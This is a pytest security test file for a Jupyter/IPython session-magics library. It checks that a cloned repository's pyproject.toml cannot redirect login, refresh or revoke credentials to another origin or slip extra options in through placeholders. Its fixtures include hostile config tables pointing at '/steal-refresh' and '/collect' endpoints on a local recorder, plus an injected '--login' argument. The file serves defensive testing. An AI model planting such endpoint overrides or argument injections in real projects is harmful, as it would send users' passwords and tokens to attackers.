"""Credentials go only where the user said (the trust model of session_magics/trust.py).

The attacker is a repository someone cloned: its pyproject.toml names a credential
endpoint (login, refresh, revoke) on another origin. A recording server on another
port of 127.0.0.1 stands in for that origin, and every test asserts on what it received.
The API is the demo API; the kernel is a real InteractiveShell started in the project's
folder, with its own user config directory (XDG_CONFIG_HOME).
"""

from __future__ import annotations

import textwrap

import keyring
import pytest

from session_magics import RequestFailed, SessionExpired
from session_magics.config import ConfigError
from session_magics.trust import ApprovalNeeded, CredentialEndpointRefused
from tests.security.helpers import (
    DEMO_PASSWORD,
    PASSWORD_ENV,
    assert_short_error,
    login,
    session_of,
    shown,
)
from tests.servers import other_origin


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A cloned repository (the kernel's working directory) and the user's own config
    directory; returns (project folder, user config file)."""
    folder = tmp_path / "cloned-repo"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    monkeypatch.setenv("SESSION_MAGICS_FRONTEND", "none")  # a scheduled run: nobody to ask
    return folder, tmp_path / "xdg" / "session-magics" / "config.toml"


def assert_nothing_received(recorder, *secrets):
    assert recorder.requests() == [], recorder.requests()
    for secret in (DEMO_PASSWORD, *secrets):
        assert not recorder.saw(secret)


def grants(api):
    stats = api.stats()
    return stats["password_grants"], stats["refresh_grants"] + stats["refresh_failures"]


# ------------------------------------------------------- the cloned repository
@pytest.mark.parametrize(
    "table",
    [
        '[tool.session_magics]\nlogin_path = "{rec}/collect"\n',
        '[tool.session_magics.profiles.demo]\nbase_url = "{api}"\nlogin = "{rec}/collect"\n',
        '[tool.session_magics.profiles.demo]\nbase_url = "{api}"\nrefresh = "{rec}/collect"\n',
        '[tool.session_magics.profiles.demo]\nbase_url = "{api}"\nrevoke = "{rec}/collect"\n',
    ],
    ids=["login_path-setting", "profile-login", "profile-refresh", "profile-revoke"],
)
def test_a_cloned_repository_cannot_send_the_password_elsewhere(project, api, recorder, kr, new_shell, table):
    """The attack of the review: the project names a credential endpoint on another origin,
    the user types their own %login line (with --password-env, as a scheduled run does).
    Nothing reaches the other origin, nothing is sent at all, and the error says how to
    approve (the exact line for the user's config file)."""
    folder, user_file = project
    write(folder / "pyproject.toml", table.format(rec=recorder.url, api=api.url))
    shell = new_shell()
    profile = "--profile demo" if "profiles.demo" in table else ""
    run = shell.run(f"%login {api.url} {profile} --user demo --password-env {PASSWORD_ENV}")
    line = assert_short_error(run, ApprovalNeeded, recorder.url, "pyproject.toml", str(user_file))
    assert "[approved_credential_origins]" in line and f'"{folder}" = ["{recorder.url}"]' in line
    assert_nothing_received(recorder)
    assert grants(api) == (0, 0)
    assert not user_file.exists()  # nothing approved behind the user's back


def test_with_nobody_to_ask_it_is_the_approval_error(project, api, recorder, kr, new_shell):
    folder, _ = project
    write(folder / "pyproject.toml", f'[tool.session_magics]\nlogin_path = "{recorder.url}/collect"\n')
    run = new_shell().run(f"%login {api.url} --user demo")
    assert_short_error(run, ApprovalNeeded, recorder.url)
    assert_nothing_received(recorder)


def test_a_project_cannot_approve_itself(project, api, recorder, kr, new_shell):
    folder, _ = project
    write(
        folder / "pyproject.toml",
        f"""
        [tool.session_magics]
        login_path = "{recorder.url}/collect"

        [tool.session_magics.approved_credential_origins]
        "{folder}" = ["{recorder.url}"]
        """,
    )
    run = new_shell().run(f"%login {api.url} --user demo --password-env {PASSWORD_ENV}")
    assert run.error is not None and "user file" in shown(run), shown(run)
    assert_nothing_received(recorder)


def test_a_project_cannot_allow_plain_http(project, kr, new_shell):
    folder, _ = project
    write(
        folder / "pyproject.toml",
        '[tool.session_magics.profiles.p]\nbase_url = "http://api.example.invalid"\nallow_http = true\n',
    )
    run = new_shell().run(f"%login --profile p --user demo --password-env {PASSWORD_ENV}")
    assert_short_error(run, ConfigError, "allow_http", "not by a project")


def test_the_same_endpoints_from_the_user_file_are_the_users_choice(project, api, kr, new_shell):
    """Another origin named by the user's own config file needs no approval, and %login,
    its "Logged in" line and --status name where credentials go. (localhost:PORT and
    127.0.0.1:PORT are two origins of one server, so the tokens it issues work.)"""
    _, user_file = project
    other = other_origin(api.url)
    write(user_file, f'[profiles.demo]\nbase_url = "{api.url}"\nlogin = "{other}/auth/token"\n')
    shell = new_shell()
    run = shell.run(f"%login --profile demo --user demo --password-env {PASSWORD_ENV}")
    assert run.error is None, shown(run)
    assert f"credentials go to {other} (set by your config file {user_file})" in run.stdout
    assert grants(api) == (1, 0)
    status = shell.run("%login --status")
    assert f"credentials go to {other}" in status.stdout


def test_the_login_line_may_name_another_origin(project, api, kr, new_shell):
    other = other_origin(api.url)
    shell = new_shell()
    run = shell.run(f"%login {api.url} --login {other}/auth/token --user demo --password-env {PASSWORD_ENV}")
    assert run.error is None, shown(run)
    assert f"credentials go to {other}" in run.stdout
    assert grants(api) == (1, 0)


# ----------------------------------------------- a project profile over the user's
def _user_profile(user_file, api):
    write(
        user_file,
        f"""
        [profiles.prod]
        base_url = "{api.url}"
        user = "demo"
        password_env = "{PASSWORD_ENV}"
        revoke = "/auth/revoke"
        """,
    )


def _hostile_project(folder, api, recorder):
    write(
        folder / "pyproject.toml",
        f"""
        [tool.session_magics.profiles.prod]
        base_url = "{api.url}"
        user = "demo"
        refresh = "{recorder.url}/steal-refresh"
        revoke = "{recorder.url}/steal-revoke"
        """,
    )


def _stored_token_then_hostile_project(project, api, recorder, new_shell, ring):
    """Day 1: log in with the user's profile (the token lands in the keyring). Day 2: the
    project file overrides the profile's refresh and revoke endpoints; a new kernel."""
    folder, user_file = project
    _user_profile(user_file, api)
    day1 = new_shell()
    run = day1.run("%login --profile prod")
    assert run.error is None, shown(run)
    stored = session_of(day1, "prod").token
    assert stored.refresh_token
    _hostile_project(folder, api, recorder)
    return stored


def _assert_refresh_and_logout_stay_home(project, api, recorder, new_shell, ring, stored):
    service = f"session-magics {api.url}"
    entry = ring.get_password(service, "demo")
    assert entry is not None
    api.advance_clock(400)  # the access token expired; the refresh token is still good
    day2 = new_shell()
    api.reset_stats()
    run = day2.run("%%api --profile prod\nGET /me")
    assert_short_error(run, ApprovalNeeded, recorder.url, "refresh")
    assert_nothing_received(recorder, stored.refresh_token, stored.access_token)
    assert grants(api) == (0, 0)
    assert ring.get_password(service, "demo") == entry  # kept: approving later can still refresh
    run = day2.run("%logout --profile prod")
    assert run.error is None, shown(run)
    assert "not revoked" in run.stderr and recorder.url in run.stderr
    assert_nothing_received(recorder, stored.refresh_token, stored.access_token)
    assert api.stats()["revocations"] == 0
    assert ring.get_password(service, "demo") is None  # logged out here all the same


def test_project_profile_overriding_refresh_and_revoke_gets_no_token(project, api, recorder, kr, new_shell):
    stored = _stored_token_then_hostile_project(project, api, recorder, new_shell, kr)
    _assert_refresh_and_logout_stay_home(project, api, recorder, new_shell, kr, stored)


def test_same_with_a_token_stored_earlier_in_the_real_secret_service(
    project, api, recorder, new_shell, secret_service_keyring
):
    keyring.set_keyring(secret_service_keyring)
    stored = _stored_token_then_hostile_project(project, api, recorder, new_shell, secret_service_keyring)
    _assert_refresh_and_logout_stay_home(project, api, recorder, new_shell, secret_service_keyring, stored)


# --------------------------------------------------------- approval, then use
def test_an_approval_in_the_user_file_is_used(project, api, kr, new_shell):
    """The project's endpoint is on another origin of the same server; once the user adds
    the line the error gave them, the login goes there, and to nowhere else."""
    folder, user_file = project
    other = other_origin(api.url)
    write(folder / "pyproject.toml", f'[tool.session_magics]\nlogin_path = "{other}/auth/token"\n')
    shell = new_shell()
    run = shell.run(f"%login {api.url} --user demo --password-env {PASSWORD_ENV}")
    line = assert_short_error(run, ApprovalNeeded)
    suggested = line.rsplit(": ", 1)[1]
    write(user_file, f"timeout = 20\n\n[approved_credential_origins]\n{suggested}\n")
    run = shell.run(f"%login {api.url} --user demo --password-env {PASSWORD_ENV}")
    assert run.error is None, shown(run)
    assert f"credentials go to {other} (set by ./pyproject.toml)" in run.stdout
    assert grants(api) == (1, 0)
    # Another project folder is another approval.
    elsewhere = folder.parent / "another-clone"
    write(elsewhere / "pyproject.toml", (folder / "pyproject.toml").read_text())
    shell.run(f"import os; os.chdir({str(elsewhere)!r})")
    run = shell.run(f"%login {api.url} --user demo --password-env {PASSWORD_ENV} --force")
    assert_short_error(run, ApprovalNeeded, str(elsewhere))
    assert grants(api) == (1, 0)


def test_approval_in_the_terminal_is_asked_once_and_remembered(project, api, kr, new_shell, monkeypatch):
    folder, user_file = project
    other = other_origin(api.url)
    write(folder / "pyproject.toml", f'[tool.session_magics]\nlogin_path = "{other}/auth/token"\n')
    write(user_file, "# my settings\ntimeout = 20\n")
    monkeypatch.setenv("SESSION_MAGICS_FRONTEND", "terminal")
    answers = iter(["n", "y"])
    asked: list[str] = []

    def fake_input(prompt=""):
        asked.append(prompt)
        return next(answers)

    monkeypatch.setattr("builtins.input", fake_input)
    monkeypatch.setattr("getpass.getpass", lambda prompt="": DEMO_PASSWORD)
    monkeypatch.delenv("SM_TRUST_UNSET", raising=False)
    shell = new_shell()
    # A --password-env variable that is not set: a person is there, so they are asked.
    run = shell.run(f"%login {api.url} --user demo --password-env SM_TRUST_UNSET")
    assert_short_error(run, SessionExpired, "Not approved", other)
    assert grants(api) == (0, 0)
    assert "Credentials go to " + other + " — set by ./pyproject.toml" in run.stderr
    run = shell.run(f"%login {api.url} --user demo")
    assert run.error is None, shown(run)
    assert grants(api) == (1, 0)
    assert len(asked) == 2 and other in asked[0]
    text = user_file.read_text()
    assert text.startswith("# my settings\ntimeout = 20\n")  # the user's file is kept as it was
    assert "[approved_credential_origins]" in text and str(folder) in text
    # Remembered: no question, also where nobody can be asked.
    monkeypatch.setenv("SESSION_MAGICS_FRONTEND", "none")
    run = new_shell().run(f"%login {api.url} --user demo --password-env {PASSWORD_ENV} --force")
    assert run.error is None, shown(run)
    assert len(asked) == 2 and grants(api) == (2, 0)


# ------------------------------------------------------- {{expr}} and http
def test_a_placeholder_value_cannot_add_options_to_login(project, api, recorder, kr, new_shell):
    shell = new_shell()
    shell.run(f"URL = {api.url + ' --login ' + recorder.url + '/steal'!r}")
    run = shell.run(f"%login {{{{URL}}}} --user demo --password-env {PASSWORD_ENV}")
    assert run.error is not None, shown(run)
    assert_nothing_received(recorder)
    shell.run(f"NAME = {'demo --login ' + recorder.url + '/steal'!r}")
    run = shell.run(f"%login {api.url} --user {{{{NAME}}}} --password-env {PASSWORD_ENV}")
    assert_nothing_received(recorder)
    assert api.stats()["login_failures"] == 1  # one argument: an odd user name, sent to the API
    # Placeholders still work as values.
    shell.run(f"URL = {api.url!r}")
    run = shell.run(f"%login {{{{URL}}}} --user {{{{'de' + 'mo'}}}} --password-env {PASSWORD_ENV}")
    assert run.error is None, shown(run)
    assert grants(api)[0] == 1


@pytest.mark.parametrize("option", ["--login", "--refresh", "--revoke"])
def test_plain_http_credential_endpoint_elsewhere_is_refused(project, api, kr, new_shell, option):
    shell = new_shell()
    run = shell.run(
        f"%login {api.url} {option} http://login.example.invalid/token "
        f"--user demo --password-env {PASSWORD_ENV}"
    )
    assert_short_error(run, CredentialEndpointRefused, "plain http", "--allow-http")
    assert grants(api) == (0, 0)


def test_plain_http_credential_endpoint_with_allow_http_is_tried(project, api, kr, new_shell):
    run = new_shell().run(
        f"%login {api.url} --login http://login.example.invalid/token --allow-http "
        f"--user demo --password-env {PASSWORD_ENV}"
    )
    assert_short_error(run, RequestFailed, "login.example.invalid")


def test_login_in_a_fresh_project_without_config_is_unchanged(project, api, kr, new_shell):
    shell = new_shell()
    run = login(shell, api)
    assert "credentials go to" not in run.stdout
    assert grants(api) == (1, 0)
